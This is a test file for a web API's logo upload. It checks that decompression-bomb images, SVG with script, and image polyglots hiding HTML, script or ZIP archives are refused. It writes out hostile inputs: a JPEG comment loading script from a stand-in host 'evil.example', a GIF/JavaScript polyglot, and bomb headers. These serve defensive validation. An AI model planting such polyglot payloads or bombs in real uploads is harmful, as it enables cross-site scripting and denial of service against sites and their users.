import sharp from 'sharp'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { companyEditProblems } from '../../src/contract/company-edit'
import { DEMO_ACCOUNTS } from '../../src/server/seed/demo-accounts'
import { startApi, type TestApi } from '../helpers/api'
import { databaseSnapshot } from '../helpers/db-snapshot'
import { SVG_WITH_SCRIPT, bombPng, documentOf, editCompany, editForm, info, jpegWithExif, png, webp } from './company-edit-helpers'
import {
  HTML_PAYLOAD,
  interlaced16BitPng,
  jpegHeader,
  losslessWebpHeader,
  pngChunk,
  pngHeader,
  withJpegComment,
  withPngChunk,
  zipOf,
} from './hostile-logo-files'

// Logos that hurt (decision 028): decompression bombs — by their pixels, and by how they are
// stored —, SVG with script, and polyglots (an image that is also HTML, script or a ZIP). Each is
// refused with a 400 on the logo field in the caller's language, and the database stays as it was.
let api: TestApi
let token: string
beforeAll(async () => {
  api = await startApi()
  token = await api.loginAs(DEMO_ACCOUNTS.carpenter.username)
})
afterAll(() => api.close())

const id = DEMO_ACCOUNTS.carpenter.companyId

async function upload(bytes: Uint8Array, locale: 'de' | 'en' = 'en') {
  const document = documentOf(await info(api, token, id))
  return editCompany(api, id, editForm(document, { bytes: new Uint8Array(bytes), name: 'logo.png', type: 'image/png' }), { token, locale })
}

async function refused(bytes: Uint8Array, locale: 'de' | 'en' = 'en'): Promise<string[]> {
  const before = await databaseSnapshot(api.database)
  const result = await upload(bytes, locale)
  expect(result.httpStatus, result.messages.join('\n')).toBe(400)
  expect(await databaseSnapshot(api.database)).toEqual(before)
  expect(Object.keys(companyEditProblems.parse(result.failure).fields)).toEqual(['logo'])
  return result.messages
}

describe('decompression bombs', () => {
  it.each([
    ['a PNG of a few KB', () => bombPng(30_000, 30_000)],
    ['a JPEG header', () => jpegHeader(30_000, 30_000, 0xc0, [0x22, 0x11, 0x11])],
    ['a lossless WebP header', () => losslessWebpHeader(16_384, 16_384)],
  ])('refuses 30,000 × 30,000 pixels (or WebP’s most) as %s from the header, without decoding it', async (_, make) => {
    // The size named in the answer is the header's: the file is refused before any decoding
    // (how fast is bench work, not a test's: a timed assertion fails on a busy machine).
    const file = make()
    expect(file.byteLength).toBeLessThan(64 * 1024)
    const [message] = await refused(file)
    expect(message).toMatch(/^The image is (30000 × 30000|16384 × 16384) pixels; at most 25 megapixels are allowed\.$/)
  })

  it.each([
    [
      'an interlaced 16-bit RGBA PNG',
      () => pngHeader(5_000, 5_000, { depth: 16, colour: 6, interlace: 1 }),
      'The image is 5000 × 5000 pixels, stored in a way that takes 190.73 MB to read; at most 48.00 MB are allowed. Please save it smaller — a logo is kept at most 512 pixels wide.',
    ],
    [
      'a PNG of 25 megapixels',
      () => pngHeader(5_000, 5_000),
      'The image is 5000 × 5000 pixels, stored in a way that takes 95.37 MB to read; at most 48.00 MB are allowed. Please save it smaller — a logo is kept at most 512 pixels wide.',
    ],
    [
      'a progressive CMYK JPEG',
      () => jpegHeader(5_000, 5_000, 0xc2, [0x11, 0x11, 0x11, 0x11]),
      'The image is 5000 × 5000 pixels, stored in a way that takes 190.73 MB to read; at most 48.00 MB are allowed. Please save it smaller — a logo is kept at most 512 pixels wide.',
    ],
    [
      'a progressive 4:2:0 JPEG',
      () => jpegHeader(5_000, 5_000, 0xc2, [0x22, 0x11, 0x11]),
      'The image is 5000 × 5000 pixels, stored in a way that takes 71.53 MB to read; at most 48.00 MB are allowed. Please save it smaller — a logo is kept at most 512 pixels wide.',
    ],
    [
      'a lossless WebP',
      () => losslessWebpHeader(5_000, 5_000),
      'The image is 5000 × 5000 pixels, stored in a way that takes 95.37 MB to read; at most 48.00 MB are allowed. Please save it smaller — a logo is kept at most 512 pixels wide.',
    ],
  ])('refuses %s within the pixel limit whose decoding would take too much memory', async (_, make, message) => {
    expect(await refused(make())).toEqual([message])
  })

  it('says so in German too', async () => {
    expect(await refused(pngHeader(5_000, 5_000, { depth: 16, interlace: 1 }), 'de')).toEqual([
      'Das Bild hat 5000 × 5000 Pixel und ist so gespeichert, dass das Lesen 190,73 MB braucht; erlaubt sind höchstens 48,00 MB. Bitte speichern Sie es kleiner – ein Logo wird höchstens 512 Pixel breit gespeichert.',
    ])
  })

  it('refuses a real interlaced 16-bit PNG of 25 megapixels (a few hundred KB) before decoding it', async () => {
    const file = await interlaced16BitPng(5_000, 5_000)
    expect(file.byteLength).toBeLessThan(1_048_576)
    expect((await refused(file))[0]).toMatch(/takes 190\.73 MB to read/)
  })

  it('still takes large images that decode in little memory: a baseline JPEG and a lossy WebP of 25 megapixels', async () => {
    const photo = await sharp({ create: { width: 5_000, height: 5_000, channels: 3, background: '#456' } })
      .jpeg({ quality: 60 })
      .toBuffer()
    expect((await upload(photo)).httpStatus).toBe(200)
    const lossy = await sharp({ create: { width: 5_000, height: 5_000, channels: 3, background: '#654' } })
      .webp({ quality: 60 })
      .toBuffer()
    expect((await upload(lossy)).httpStatus).toBe(200)
  })
})

describe('SVG with script', () => {
  it('refuses it as a logo, whatever it is called, in English and German', async () => {
    expect(await refused(Buffer.from(SVG_WITH_SCRIPT))).toEqual(['An SVG file cannot be a logo. Please choose a PNG, JPEG or WebP image.'])
    expect(await refused(Buffer.from(SVG_WITH_SCRIPT), 'de')).toEqual(['Eine SVG-Datei kann kein Logo sein. Bitte wählen Sie ein PNG-, JPEG- oder WebP-Bild.'])
  })
})

describe('polyglots', () => {
  const markup = 'This image also holds HTML or script. Please save it again as a plain PNG, JPEG or WebP image, for example in an image program.'
  const zip = 'This image is also a ZIP archive. Please save it again as a plain PNG, JPEG or WebP image, for example in an image program.'
  const trailing = 'This image carries other data after its end. Please save it again as a plain PNG, JPEG or WebP image, for example in an image program.'

  it('refuses a PNG that is also an HTML page (the page after its end, or in a text chunk)', async () => {
    const image = await png()
    expect(await refused(Buffer.concat([image, Buffer.from(HTML_PAYLOAD)]))).toEqual([markup])
    expect(await refused(withPngChunk(image, pngChunk('tEXt', Buffer.from(`Comment\0${HTML_PAYLOAD}`))))).toEqual([markup])
  })

  it('refuses a JPEG whose comment is a script', async () => {
    expect(await refused(withJpegComment(await jpegWithExif(), '*/=1;<script src=//evil.example/x.js></script>'))).toEqual([markup])
  })

  it('refuses a PNG, JPEG or WebP that is also a ZIP archive, in German too', async () => {
    const archive = zipOf('payload.js', 'alert(1)')
    expect(await refused(Buffer.concat([await png(), archive]))).toEqual([zip])
    expect(await refused(Buffer.concat([await jpegWithExif(), archive]))).toEqual([zip])
    expect(await refused(Buffer.concat([await webp(), archive]), 'de')).toEqual([
      'Dieses Bild ist zugleich ein ZIP-Archiv. Bitte speichern Sie es neu als reines PNG-, JPEG- oder WebP-Bild, zum Beispiel in einem Bildprogramm.',
    ])
  })

  it('refuses a PNG or WebP with other data after its end', async () => {
    expect(await refused(Buffer.concat([await png(), Buffer.from('something else entirely')]))).toEqual([trailing])
    expect(await refused(Buffer.concat([await webp(), Buffer.from([1, 2, 3, 4])]))).toEqual([trailing])
  })

  it('refuses a GIF that is also a script as not an image', async () => {
    const gifScript = Buffer.from('GIF89a/*\x01\x00\x01\x00\x00\x00\x00;*/=alert(document.domain)//', 'latin1')
    expect(await refused(gifScript)).toEqual(['This file is not an image. Please choose a PNG, JPEG or WebP image.'])
  })

  it('takes a PNG with XMP metadata and a JPEG with a vendor trailer after its end (as phones write them)', async () => {
    const xmp = '<?xpacket begin=""?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/></x:xmpmeta>'
    const withXmp = withPngChunk(await png(), pngChunk('iTXt', Buffer.from(`XML:com.adobe.xmp\0\0\0\0\0${xmp}`)))
    expect((await upload(withXmp)).httpStatus).toBe(200)
    const trailer = Buffer.concat([await jpegWithExif(), Buffer.from('SEFH\x00\x00\x00\x00Image_UTC_Data1700000000000SEFT', 'latin1')])
    expect((await upload(trailer)).httpStatus).toBe(200)
  })
})
